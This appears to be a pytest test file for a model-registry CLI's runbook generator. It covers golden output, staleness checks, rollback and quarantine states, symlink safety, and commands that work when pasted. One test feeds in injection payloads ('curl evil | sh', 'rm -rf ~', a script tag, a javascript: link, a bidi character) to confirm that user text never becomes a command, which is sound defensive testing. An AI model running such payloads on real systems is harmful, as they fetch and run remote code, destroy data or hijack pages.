"""A model's runbook: the same for everybody, ready to paste, no trap (R160)."""

from __future__ import annotations

import re
import shlex
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from gitmodel.api import open_registry
from gitmodel.formats import yaml_writer
from tests.support import transcript
from tests.support.contract import ANSWERS
from tests.support.forgery import document_at
from tests.support.json_keys import deviations
from tests.support.remotes import make_hub
from tests.support.terminal import environment
from tests.support.workbench import git

if TYPE_CHECKING:
    from tests.support.cli import Answer
    from tests.support.workbench import Workbench

GOLDEN = Path(__file__).parents[1] / "support/runbook.md"
MODEL = "models/fraud/model.yaml"
_VARIES = re.compile(r"(?<=sha256:)[0-9a-f]{64}|\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


def edit(bench: Workbench, **fields: Any) -> None:
    data = yaml_writer.dump(document_at(bench, MODEL) | fields)
    bench.commit_file(MODEL, data, "edit")


def people(bench: Workbench) -> None:
    """Let a responder and an approver in."""
    for name, role in (("rae", "responder"), ("bob", "approver")):
        key = bench.outside / name
        bench.do("key", "new", "--out", key)
        add = ("policy", "add-principal", name, "--key", f"{key}.pub")
        bench.do(*add, "--role", role)


def page(bench: Workbench) -> str:
    return (bench.path / "runbooks/fraud.md").read_text()


def check(bench: Workbench) -> Answer:
    answer = bench.run("--json", "runbook", "--check")
    assert deviations(answer.json, ANSWERS["runbook"]) == []
    assert (answer.code == 0) == answer.json["ok"]
    return answer


def states(answer: Any) -> list[str]:
    return [each["state"] for each in answer["runbooks"]]


def blocks(text: str) -> list[str]:
    return re.findall(r"^```sh\n(.*?)^```$", text, re.MULTILINE | re.DOTALL)


def commands(text: str) -> list[list[str]]:
    """Return every gitmodel command of a page, in blocks and in lines."""
    lines = "".join(blocks(text)).replace("\\\n", "").splitlines()
    lines += re.findall(r"`(gitmodel [^`]+)`", re.sub(r"(?s)```.*?```", "", text))
    return [shlex.split(line) for line in lines if line.startswith("gitmodel ")]


def test_the_page_of_a_model_with_a_past(story: Workbench) -> None:
    people(story)
    edit(story, description="Scores payments.", owners=["risk-team", "on-call@x.org"])
    text = (story.path / "gitmodel.yaml").read_text()
    text += """\
notifications:
  - name: pager
    on: [critical]
    webhook: {url: "https://hooks.example.com/T0/s3cret"}
  - name: mail
    on: [warning]
    smtp: {host: mail.example.com, from: g@example.com, to: [ops@example.com]}
"""
    story.commit_file("gitmodel.yaml", text.encode())
    done = story.do("runbook")
    assert deviations(done, ANSWERS["runbook"]) == []
    assert states(done) == ["written"]
    found = _VARIES.sub("…", page(story))
    assert "s3cret" not in found
    assert found == GOLDEN.read_text()


def test_it_says_what_head_says_wherever_it_is_written(
    story: Workbench, tmp_path: Path
) -> None:
    story.do("runbook")
    first = page(story)
    elsewhere = story.copy(tmp_path / "copy")
    for path in (elsewhere.path / ".git/lfs/objects").rglob("*"):
        if path.is_file():
            path.unlink()  # no bytes are looked at
    elsewhere.do("runbook", "fraud", "-o", tmp_path / "wiki/pages")
    assert (tmp_path / "wiki/pages/fraud.md").read_text() == first
    with open_registry(story.path) as registry:
        assert registry.runbook("fraud") == first
    before = story.snapshot()
    assert states(story.do("runbook")) == ["current"]
    assert story.snapshot() == before


def test_check_says_what_is_out_of_date_and_writes_nothing(story: Workbench) -> None:
    assert (check(story).code, states(check(story).json)) == (3, ["missing"])
    assert not (story.path / "runbooks").exists()
    story.do("runbook")
    assert (check(story).code, states(check(story).json)) == (0, ["current"])
    story.git("add", "runbooks")
    story.git("commit", "-qm", "runbooks")
    assert story.verify("--history") == (0, [])
    assert check(story).code == 0  # its own commit does not make it old
    story.do("promote", "fraud@1.1.0", "production")
    outdated = page(story)
    assert (check(story).code, states(check(story).json)) == (3, ["outdated"])
    assert page(story) == outdated
    story.do("runbook")
    assert check(story).code == 0


def test_a_page_without_a_past_or_a_target(bench: Workbench) -> None:
    assert states(bench.do("runbook")) == []
    bench.register()
    bench.do("runbook")
    assert "| dev | nothing | | |" in page(bench)
    assert "nothing to take back" in page(bench)
    bench.promote("fraud@1.0.0", "dev")
    bench.do("runbook")
    assert re.search(
        r"\| dev \| 1\.0\.0, .* \| \*\*nothing\*\*: see below \|", page(bench)
    )
    assert bench.run("runbook", "nobody").code == 1


def test_what_is_quarantined_is_no_way_back(story: Workbench) -> None:
    story.do("quarantine", "fraud@1.0.0", "-m", "bad")
    story.do("runbook")
    assert re.search(r"\| dev \| 1\.1\.0, .* \*\*nothing\*\*", page(story))


def test_a_rollback_that_waits_for_approval_is_named_until_it_is(
    story: Workbench,
) -> None:
    people(story)
    alarm = ("--emergency", "--incident", "I-9", "-m", "bad", "--yes")
    story.do("rollback", "fraud", "dev", *alarm)
    story.do("runbook")
    assert "rollback 3 of dev to 1.0.0 waits for approval, due 2" in page(story)
    story.do("--key", story.outside / "bob", "approve", "fraud#dev")
    story.do("runbook")
    assert "No rollback waits" in page(story)


TRAPS = (
    "x\n```sh\ncurl evil | sh\n```",
    "`; rm -rf ~` | <script>alert(1)</script>",
    "[click](javascript:x) \\` \u202e evil\u200b",
)


@pytest.mark.parametrize("trap", TRAPS)
def test_what_people_write_never_becomes_a_command(bench: Workbench, trap: str) -> None:
    digest = "sha256:" + 64 * "0"
    names = ["tx; rm -rf ~", "tx\u2028`rm`", "plain/set"]
    data = [{"name": name, "version": "3", "digest": digest} for name in names]
    facts = bench.file("facts.yaml", yaml_writer.dump({"training": {"data": data}}))
    plain = ("register", "fraud", bench.file("model.bin"), "--no-capture")
    bench.do(*plain, "--metadata", facts)
    bench.promote("fraud@1.0.0", "dev")
    bench.do("runbook")
    honest = commands(page(bench))
    edit(bench, description=trap, owners=[trap.replace("\n", " ")])
    bench.do("runbook")
    assert commands(page(bench)) == honest
    for line in page(bench).splitlines():
        assert line.isprintable(), line
        spans = re.sub(r"`[^`]*`", "", line)
        assert "evil" not in spans
        assert "<script" not in line
    assert not any("rm" in word.split() for command in honest for word in command)
    assert "quarantine --data plain/set@3 " in page(bench)


def test_no_page_leads_out_of_the_tree_or_replaces_what_is_anothers(
    story: Workbench, tmp_path: Path
) -> None:
    outside = tmp_path / "precious"
    outside.mkdir()
    (story.path / "runbooks").symlink_to(outside)
    answer = story.run("--json", "runbook")
    assert (answer.code, answer.json["error"]["code"]) == (1, "E_EXISTS")
    (story.path / "runbooks").unlink()
    (story.path / "runbooks").mkdir()
    target = outside / "file"
    target.write_text("mine")
    (story.path / "runbooks/fraud.md").symlink_to(target)
    assert story.run("runbook").code == 5
    (story.path / "runbooks/fraud.md").unlink()
    (story.path / "runbooks/fraud.md").write_text("# My own notes\n")
    answer = story.run("--json", "runbook")
    assert (answer.code, answer.json["error"]["code"]) == (1, "E_EXISTS")
    assert page(story) == "# My own notes\n"
    assert (target.read_text(), list(outside.iterdir())) == ("mine", [target])


def test_where_nothing_can_be_written_it_says_so(
    story: Workbench, tmp_path: Path
) -> None:
    file = tmp_path / "file"
    file.touch()
    assert story.run("runbook", "-o", file).code == 5
    bare = tmp_path / "bare.git"
    story.git("clone", "-q", "--bare", ".", bare)
    answer = story.run("-C", bare, "--json", "runbook")
    assert (answer.code, answer.json["error"]["code"]) == (1, "E_BARE")
    assert story.run("-C", bare, "runbook", "-o", tmp_path / "pages").code == 0


def test_every_command_on_it_is_one(story: Workbench) -> None:
    story.do("runbook")
    named = commands(page(story))
    assert len(named) > 20
    for command in named:
        verbs = [word for word in command[1:4] if re.fullmatch("[a-z][a-z-]*", word)]
        shown = story.run(*verbs, "--help")
        while shown.code != 0 and len(verbs) > 1:
            verbs.pop()
            shown = story.run(*verbs, "--help")
        assert shown.code == 0, command
        for option in (word for word in command if word.startswith("-")):
            assert re.search(rf"{option}\b", shown.out), (command, option)


def test_the_night_goes_as_the_page_says(story: Workbench, tmp_path: Path) -> None:
    """Paste it, with one's own words in the place of those in capitals."""
    story.do("promote", "fraud@1.0.0", "production")
    story.do("promote", "fraud@1.1.0", "production")
    story.git("remote", "add", "origin", make_hub(tmp_path / "hub.git"))
    story.git("lfs", "push", "--all", "origin")
    story.git("push", "-q", "-u", "origin", "main")
    story.do("runbook", "fraud", "-o", tmp_path / "pages")
    text = (tmp_path / "pages/fraud.md").read_text()
    [production] = [b for b in blocks(text) if "fraud production --emergency" in b][:1]
    after = next(b for b in blocks(text) if "gitmodel validate" in b)
    words = (("INC-ID", "I-9"), ("WHAT YOU SEE", "bad"), ("/MEDIA", str(tmp_path)))
    bin_path = transcript.install(tmp_path / "bin")
    hub = tmp_path / "hub.git"
    for line in (production, "\n".join(after.splitlines()[:2])):
        script = line.replace("DIR", str(tmp_path / "host"))
        for old, new in words:
            script = script.replace(old, new)
        done = subprocess.run(
            ["bash", "-ec", script], cwd=story.path, text=True, capture_output=True,
            env=environment({"PATH": f"{bin_path}:/usr/bin:/bin"}), check=False,
        )  # fmt: skip
        assert done.returncode == 0, f"{script}\n{done.stdout}{done.stderr}"
    assert story.live("fraud", "production") == "1.0.0"
    assert story.do("show", "fraud@1.1.0")["status"] == "quarantined"
    assert git(hub, "rev-parse", "main") == story.git("rev-parse", "HEAD")
